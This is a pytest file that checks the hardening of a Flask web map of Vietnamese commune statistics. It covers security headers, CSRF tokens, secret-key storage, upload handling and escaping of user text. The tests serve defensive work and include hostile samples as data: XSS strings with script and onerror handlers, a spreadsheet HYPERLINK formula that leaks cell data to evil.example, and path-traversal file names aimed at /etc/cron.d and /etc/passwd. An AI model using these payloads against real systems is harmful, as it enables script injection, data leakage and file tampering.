"""Web hardening: headers, CSRF, the secret key, uploads (size, names) and hostile text everywhere."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from conftest import SHARED_DIR, client_as, csrf_of, make_app, needs_shared, postgresql_only, sqlite_only
from import_builders import SOURCE, poverty_annex_xlsx, poverty_rows, units_of

from mapapp.web import security

pytestmark = needs_shared

PAYLOAD = "<script>window.__xss=1</script><img src=x onerror=\"window.__xss=2\">'\""
ESCAPED = "&lt;script&gt;window.__xss=1&lt;/script&gt;"
# A file name has no "/" (the path is dropped) and browsers send '"' as %22.
FILE_PAYLOAD = "<b onmouseover=window.__xss=3>x<i>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
EXPECTED_CSP = {
    "default-src": "'self'", "script-src": "'self'", "style-src": "'self' 'unsafe-inline'",
    "img-src": "'self' data:", "connect-src": "'self'", "font-src": "'self'", "object-src": "'none'",
    "base-uri": "'self'", "form-action": "'self'", "frame-ancestors": "'none'",
}
UPLOAD_NAME = re.compile(r"[0-9a-f]{32}\.(bin|json)")


def upload_dir(app) -> str:
    return os.path.join(os.path.dirname(app.config["CACHE_DIR"]), "uploads")


def parse_csp(value: str) -> dict[str, str]:
    directives = {}
    for part in value.split(";"):
        name, _, rest = part.strip().partition(" ")
        if name:
            directives[name] = rest.strip()
    return directives


# --- headers --------------------------------------------------------------------------------

def test_security_headers_on_every_kind_of_response(app):
    client = app.test_client()
    page = client.get("/").get_data(as_text=True)
    script = re.search(r'"(/map-script/[0-9a-f]+\.js)"', page).group(1)  # in the page config (liveAssets)
    for url in ["/", "/?lang=en", "/api/values?indicator=poverty_rate&year=2021", "/api/values?indicator=nope",
                "/api/units?year=2021", "/static/map/main.js", "/vendor/leaflet/leaflet.css", script, "/login",
                "/import", "/no-such-page", "/ranking.csv", "/export.svg?indicator=poverty_rate&year=2021"]:
        response = client.get(url)
        headers = response.headers
        assert parse_csp(headers["Content-Security-Policy"]) == EXPECTED_CSP, url
        assert "http" not in headers["Content-Security-Policy"], url  # no other origin, no CDN
        assert headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["X-Frame-Options"] == "DENY", url
        assert headers["Referrer-Policy"] == "same-origin", url


def test_pages_that_act_for_an_account_get_a_window_of_their_own(fresh_app):
    editor = client_as(fresh_app, "editor")
    admin = client_as(fresh_app, "admin")
    anonymous = fresh_app.test_client()
    for client, url in [(anonymous, "/login"), (anonymous, "/import"), (editor, "/import"), (admin, "/users"),
                        (anonymous, "/login?lang=en")]:
        assert client.get(url).headers.get("Cross-Origin-Opener-Policy") == "same-origin", url
    # the public read-only views are opened from Word, e-mail and chat: the policy would cost each such
    # first visit a second renderer process before the first frame (bench/RESULTS.md)
    for client, url in [(anonymous, "/"), (editor, "/"), (anonymous, "/ranking"), (anonymous, "/api/units?year=2021"),
                        (anonymous, "/export.svg?indicator=poverty_rate&year=2021")]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "Cross-Origin-Opener-Policy" not in response.headers, url
        assert response.headers["Cross-Origin-Resource-Policy"] == "same-origin", url


def test_private_pages_are_not_cached(fresh_app):
    editor = client_as(fresh_app, "editor")
    assert editor.get("/import").headers["Cache-Control"] == "no-store"
    assert fresh_app.test_client().get("/login").headers["Cache-Control"] == "no-store"


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.inline_scripts: list[str] = []
        self._in_script = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "script" and "src" not in attrs and attrs.get("type") != "application/json":
            self._in_script = ""

    def handle_data(self, data):
        if self._in_script is not None:
            self._in_script += data

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            self.inline_scripts.append(self._in_script)
            self._in_script = None


def _check_page_obeys_csp(html: str, url: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(html)
    assert parser.inline_scripts == [], f"{url}: inline script (blocked by script-src 'self')"
    for tag, attrs in parser.tags:
        handlers = [a for a in attrs if a.startswith("on")]
        assert not handlers, f"{url}: <{tag} {handlers}> (inline handlers are blocked)"
        for attr in ("src", "data"):
            value = attrs.get(attr) or ""
            assert not re.match(r"^(https?:)?//", value), f"{url}: <{tag} {attr}={value}> loads from elsewhere"
        if tag == "link" and attrs.get("rel") in ("stylesheet", "preload", "icon"):
            assert not re.match(r"^(https?:)?//", attrs.get("href", "")), f"{url}: {attrs}"
    return parser.tags


def test_pages_load_nothing_from_elsewhere_and_have_no_inline_script(app):
    client = app.test_client()
    urls = ["/", "/?lang=en", "/ranking", "/district", "/compare", "/login", "/login?lang=en"]
    codes = re.findall(r'/communes/(\d+)', client.get("/ranking").get_data(as_text=True))
    urls += [f"/communes/{codes[0]}"] if codes else []
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        _check_page_obeys_csp(response.get_data(as_text=True), url)
    editor = client_as(app, "editor", "csp-editor")
    for url in ["/import", "/import?lang=en"]:
        _check_page_obeys_csp(editor.get(url).get_data(as_text=True), url)


# --- CSRF -----------------------------------------------------------------------------------

def _post_routes(app) -> list[str]:
    urls = []
    for rule in app.url_map.iter_rules():
        if "POST" in rule.methods:
            urls.append(re.sub(r"<(?:int:)?[^>]+>", "1", rule.rule))
    return sorted(urls)


def test_every_post_endpoint_refuses_a_missing_or_wrong_csrf_token(fresh_app):
    admin = client_as(fresh_app, "admin")  # may open everything: only the token can refuse
    other = client_as(fresh_app, "editor", "other-editor")
    urls = _post_routes(fresh_app)
    assert {"/login", "/logout", "/import/indicators", "/import/1/undo", "/users"} <= set(urls)
    for url in urls:
        for data in ({}, {"csrf_token": "x" * 43}, {"csrf_token": other.csrf}, {"csrf_token": ""}):
            response = admin.post(url, data=data)
            assert response.status_code == 400, (url, data)
            assert "CSRF" in response.get_data(as_text=True), (url, data)
        # a multipart upload without the token too
        response = admin.post(url, data={"file": (io.BytesIO(b"a,b\n"), "a.csv")}, content_type="multipart/form-data")
        assert response.status_code == 400, url
    # the header works for scripts, and a wrong one is refused
    assert admin.post("/import/1/undo", headers={"X-CSRF-Token": admin.csrf}).status_code == 409  # no import #1
    assert admin.post("/import/1/undo", headers={"X-CSRF-Token": other.csrf}).status_code == 400
    # the login form itself: no token, no login
    fresh = fresh_app.test_client()
    assert fresh.post("/login", data={"username": "admin1", "password": "x"}).status_code == 400


def test_every_post_form_carries_the_token(fresh_app):
    admin = client_as(fresh_app, "admin")
    data = poverty_annex_xlsx(poverty_rows(units_of(fresh_app, 2021)), year=2021)
    preview = admin.post("/import/indicators", data={"file": (io.BytesIO(data), "a.xlsx"), "source": SOURCE,
                                                     "csrf_token": admin.csrf}, content_type="multipart/form-data")
    token = re.search(r'name="token" value="([0-9a-f]{32})"', preview.get_data(as_text=True)).group(1)
    done = admin.post("/import/indicators/confirm", data={"token": token, "source": SOURCE, "csrf_token": admin.csrf})
    pages = {
        "/login": fresh_app.test_client().get("/login").get_data(as_text=True),
        "/import": admin.get("/import").get_data(as_text=True),
        "preview": preview.get_data(as_text=True),
        "detail": admin.get(done.headers["Location"]).get_data(as_text=True),
        "/users": admin.get("/users").get_data(as_text=True),
    }
    for name, html in pages.items():
        forms = re.findall(r'<form\b[^>]*method="post"[^>]*>.*?</form>', html, re.S | re.I)
        assert forms, name
        for form in forms:
            assert re.search(r'name="csrf_token" value="[^"]{20,}"', form), f"{name}: {form[:200]}"


def test_csrf_token_is_per_session(fresh_app):
    a, b = fresh_app.test_client(), fresh_app.test_client()
    token_a = csrf_of(a.get("/login").get_data(as_text=True))
    assert token_a == csrf_of(a.get("/login?lang=en").get_data(as_text=True))
    assert token_a != csrf_of(b.get("/login").get_data(as_text=True))


# --- the secret key -------------------------------------------------------------------------

@sqlite_only  # on PostgreSQL no key is generated: see the test below
def test_secret_key_is_generated_once_and_kept(tmp_path, monkeypatch):
    monkeypatch.delenv("MAPAPP_SECRET_KEY", raising=False)
    key_file = tmp_path / "instance" / "secret_key"
    first = make_app(tmp_path / "a", SECRET_KEY="dev", SECRET_KEY_FILE=str(key_file))
    assert first.config["SECRET_KEY"] != "dev" and len(first.config["SECRET_KEY"]) >= 32
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    second = make_app(tmp_path / "b", SECRET_KEY_FILE=str(key_file))
    assert second.config["SECRET_KEY"] == first.config["SECRET_KEY"]  # sessions survive a restart
    monkeypatch.setenv("MAPAPP_SECRET_KEY", "from-the-environment-0123456789")
    assert make_app(tmp_path / "c", SECRET_KEY_FILE=str(key_file)).config["SECRET_KEY"] == \
        "from-the-environment-0123456789"
    monkeypatch.delenv("MAPAPP_SECRET_KEY")
    assert make_app(tmp_path / "d", SECRET_KEY="configured-in-instance-config").config["SECRET_KEY"] == \
        "configured-in-instance-config"


@postgresql_only
def test_on_postgresql_a_key_is_read_never_generated(tmp_path, monkeypatch):
    monkeypatch.delenv("MAPAPP_SECRET_KEY", raising=False)
    key_file = tmp_path / "shared-key"
    with pytest.raises(security.SharedKeyMissing, match="same key"):
        make_app(tmp_path / "a", SECRET_KEY="dev", SECRET_KEY_FILE=str(key_file))
    assert not key_file.exists()
    key_file.write_text("k" * 64 + "\n", encoding="ascii")  # one file given to every server
    assert make_app(tmp_path / "b", SECRET_KEY_FILE=str(key_file)).config["SECRET_KEY"] == "k" * 64
    monkeypatch.setenv("MAPAPP_SECRET_KEY", "from-the-environment-0123456789")
    assert make_app(tmp_path / "c", SECRET_KEY_FILE=str(tmp_path / "none")).config["SECRET_KEY"] == \
        "from-the-environment-0123456789"
    monkeypatch.delenv("MAPAPP_SECRET_KEY")
    assert make_app(tmp_path / "d", SECRET_KEY="configured-in-instance-config").config["SECRET_KEY"] == \
        "configured-in-instance-config"


def test_the_default_app_never_signs_with_dev(app):
    assert app.config["SECRET_KEY"] not in ("dev", "", None)


def test_secret_key_file_race_keeps_the_first(tmp_path):
    path = str(tmp_path / "k")
    keys = {security._key_from_file(path) for _ in range(3)}
    assert len(keys) == 1 and not [p for p in os.listdir(tmp_path) if p.endswith(".tmp")]


# --- uploads --------------------------------------------------------------------------------

def test_oversized_upload_is_refused_with_a_clear_message(tmp_path):
    app = make_app(tmp_path, MAX_CONTENT_LENGTH=100_000)
    editor = client_as(app, "editor")
    big = io.BytesIO(b"x" * 200_000)
    response = editor.post("/import/indicators", data={"file": (big, "lon.csv"), "csrf_token": editor.csrf},
                           content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code == 413 and "Tệp quá lớn (tối đa 0.1 MB)" in html
    response = editor.post("/import/projects?lang=en", data={"file": (io.BytesIO(b"x" * 200_000), "big.csv"),
                                                             "csrf_token": editor.csrf},
                           content_type="multipart/form-data")
    assert response.status_code == 413 and "The file is too large (at most 0.1 MB)" in response.get_data(as_text=True)
    assert not os.path.isdir(upload_dir(app)) or not [n for n in os.listdir(upload_dir(app)) if n.endswith(".bin")]
    assert make_app(tmp_path / "default").config["MAX_CONTENT_LENGTH"] == 50 * 1024 * 1024


@pytest.mark.parametrize("name, shown", [
    ("../../../../../../tmp/mapapp-evil.csv", "mapapp-evil.csv"),
    ("..\\..\\..\\mapapp-evil.csv", "......mapapp-evil.csv"),  # the browser's backslashes are dropped
    ("/etc/cron.d/mapapp-evil.csv", "mapapp-evil.csv"),
    ("C:\\Windows\\mapapp-evil.csv", "C:Windowsmapapp-evil.csv"),
    ("....//....//mapapp-evil.csv", "mapapp-evil.csv"),
    ("%2e%2e%2fmapapp-evil.csv", "%2e%2e%2fmapapp-evil.csv"),  # shown as given: never decoded, never a path
    (".bashrc.csv", ".bashrc.csv"),
    ("uploads/../../config.py.csv", "config.py.csv"),
])
def test_upload_names_never_choose_a_path(fresh_app, tmp_path, name, shown):
    editor = client_as(fresh_app, "editor")
    data = "Xã;Năm;Chỉ tiêu;Giá trị\r\nLìa;2021;Tỷ lệ hộ nghèo;12,5\r\n".encode()
    response = editor.post("/import/indicators", data={"file": (io.BytesIO(data), name), "source": SOURCE,
                                                       "csrf_token": editor.csrf}, content_type="multipart/form-data")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    heading = re.search(r"<h1[^>]*>(.*?)</h1>", html, re.S).group(1)
    assert heading.strip().endswith(f"— {shown}"), heading
    assert "/etc/" not in html and "..\\" not in html and "../" not in html
    folder = upload_dir(fresh_app)
    assert all(UPLOAD_NAME.fullmatch(n) for n in os.listdir(folder)), os.listdir(folder)
    for path in ("/tmp/mapapp-evil.csv", "/etc/cron.d/mapapp-evil.csv", str(tmp_path / "config.py.csv")):
        assert not os.path.exists(path)
    for root, _dirs, files in os.walk(tmp_path):
        assert not [f for f in files if "evil" in f or f.endswith("config.py.csv")], root
    meta = [json.loads(open(os.path.join(folder, n), encoding="utf-8").read())
            for n in os.listdir(folder) if n.endswith(".json")]
    assert all("/" not in m["filename"] and "\\" not in m["filename"] for m in meta)


def test_upload_token_cannot_point_elsewhere(fresh_app):
    editor = client_as(fresh_app, "editor")
    for token in ("../../secret_key", "/etc/passwd", "0" * 31 + "/", "A" * 32, "../" + "a" * 29):
        response = editor.post("/import/projects/confirm", data={"token": token, "csrf_token": editor.csrf})
        assert response.status_code == 400, token


# --- hostile text everywhere ----------------------------------------------------------------

def _assert_inert(html: str, where: str) -> None:
    assert "<script>window.__xss" not in html, where
    assert "<img src=x" not in html, where
    assert 'onerror="window' not in html, where
    assert "<b onmouseover" not in html, where


def _projects_xlsx(rows) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["DANH SÁCH DỰ ÁN"])
    ws.append(["STT", "Tên dự án", "Nhà tài trợ", "Lĩnh vực", "Xã", "Thôn", "Năm bắt đầu", "Năm kết thúc", "Kinh phí",
               "Đơn vị tiền", "Tọa độ", "Nguồn"])
    for i, row in enumerate(rows, start=1):
        ws.append([i] + row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _csv_bytes(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def hostile_imports(app, client) -> dict[str, str]:
    """Import, through the web pages, hostile text in every field a user supplies; return the pages seen."""
    pages = {}

    def post(url, data, **kw):
        response = client.post(url, data=dict(data, csrf_token=client.csrf), **kw)
        pages[f"POST {url} {len(pages)}"] = response.get_data(as_text=True)
        return response

    def confirm(url, html, extra):
        token = re.search(r'name="token" value="([0-9a-f]{32})"', html).group(1)
        done = post(url, dict(extra, token=token))
        assert done.status_code == 302, done.get_data(as_text=True)[:2000]
        pages[done.headers["Location"]] = client.get(done.headers["Location"]).get_data(as_text=True)

    # 1. indicator annex: hostile source document and file name
    data = poverty_annex_xlsx(poverty_rows(units_of(app, 2021)), year=2021)
    preview = post("/import/indicators", {"file": (io.BytesIO(data), f"{FILE_PAYLOAD}.xlsx"), "source": PAYLOAD,
                                          "who": PAYLOAD}, content_type="multipart/form-data")
    confirm("/import/indicators/confirm", preview.get_data(as_text=True), {"source": PAYLOAD, "who": PAYLOAD})
    # 2. long table: a formula as the per-row source; a hostile commune name (an error, echoed)
    header = ["Xã", "Năm", "Chỉ tiêu", "Giá trị", "Tử số", "Mẫu số", "Nguồn"]
    rows = [[u.name, 2022, "poverty_rate", "", 40 + i, 500, FORMULA] for i, (_id, u) in enumerate(units_of(app, 2022))]
    preview = post("/import/indicators", {"file": (io.BytesIO(_csv_bytes([header] + rows)), "long.csv")},
                   content_type="multipart/form-data")
    confirm("/import/indicators/confirm", preview.get_data(as_text=True), {})
    bad = _csv_bytes([header, [PAYLOAD, 2022, "poverty_rate", "", 1, 2, PAYLOAD]])
    post("/import/indicators", {"file": (io.BytesIO(bad), "bad.csv"), "source": SOURCE},
         content_type="multipart/form-data")
    # 3. projects: every free-text column hostile (the budget must be a number)
    row = [PAYLOAD, PAYLOAD, PAYLOAD, "Lìa", PAYLOAD, 2022, 2024, "1.200.000.000", "VND", "16.63, 106.72", PAYLOAD]
    preview = post("/import/projects", {"file": (io.BytesIO(_projects_xlsx([row])), "du-an.xlsx"), "source": PAYLOAD},
                   content_type="multipart/form-data")
    confirm("/import/projects/confirm", preview.get_data(as_text=True), {"source": PAYLOAD})
    # 4. boundaries: a hostile feature name (unknown commune: an error that quotes it)
    collection = json.loads((SHARED_DIR / "geodata" / "huong-hoa-communes-2008.geojson").read_text(encoding="utf-8"))
    collection["features"][0]["properties"]["name"] = PAYLOAD
    post("/import/boundaries", {"file": (io.BytesIO(json.dumps(collection).encode()), f"{FILE_PAYLOAD}.geojson"),
                                "valid_from": "2016-01-01", "valid_to": "2016-12-31", "source": PAYLOAD,
                                "crs": PAYLOAD}, content_type="multipart/form-data")
    pages["/import"] = client.get("/import").get_data(as_text=True)
    pages["/import?lang=en"] = client.get("/import?lang=en").get_data(as_text=True)
    return pages


def test_hostile_text_in_every_user_field_is_inert(fresh_app):
    editor = client_as(fresh_app, "editor")
    pages = hostile_imports(fresh_app, editor)
    for where, html in pages.items():
        _assert_inert(html, where)
    assert any(ESCAPED in html for where, html in pages.items() if where.startswith("/import/")), "detail pages"
    assert ESCAPED in pages["/import"] and "&lt;b onmouseover" in pages["/import"]  # source, file name
    anonymous = fresh_app.test_client()
    values = anonymous.get("/api/values?indicator=poverty_rate&year=2021").get_json()
    assert any(r["source"] == PAYLOAD for r in values["records"])  # stored as given, JSON, never HTML
    projects = anonymous.get("/api/projects?year=2022").get_json()["projects"]
    assert any(p["name"] == PAYLOAD for p in projects)
    code = next(r["code"] for r in values["records"] if r["source"] == PAYLOAD)
    for url in ["/?indicator=poverty_rate&year=2021", "/ranking?indicator=poverty_rate&year=2021",
                "/ranking?indicator=poverty_rate&year=2022", f"/communes/{code}", "/district",
                "/compare?indicator=poverty_rate&year=2021&year2=2022", "/ranking?indicator=projects_active&year=2022"]:
        response = anonymous.get(url)
        assert response.status_code == 200, url
        _assert_inert(response.get_data(as_text=True), url)
    ranking = anonymous.get("/ranking?indicator=poverty_rate&year=2021").get_data(as_text=True)
    assert ESCAPED in ranking
    # exports: an SVG is XML with no script, hostile text (if any) escaped
    svg = anonymous.get("/export.svg?indicator=poverty_rate&year=2021")
    assert svg.status_code == 200
    root = ET.fromstring(svg.data)
    assert not [e for e in root.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")]
    assert not [a for e in root.iter() for a in e.attrib if a.lower().startswith("on")]
    assert b"<script" not in svg.data and b"<img" not in svg.data


def test_formulas_in_csv_and_xlsx_downloads_are_neutralised(fresh_app):
    editor = client_as(fresh_app, "editor")
    hostile_imports(fresh_app, editor)
    client = fresh_app.test_client()
    raw = client.get("/ranking.csv?indicator=poverty_rate&year=2022").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell)), cell
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(client.get("/ranking.xlsx?indicator=poverty_rate&year=2022").data))
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(FORMULA in c.value for c in texts)
    for cell in texts:
        assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "@")), cell.value
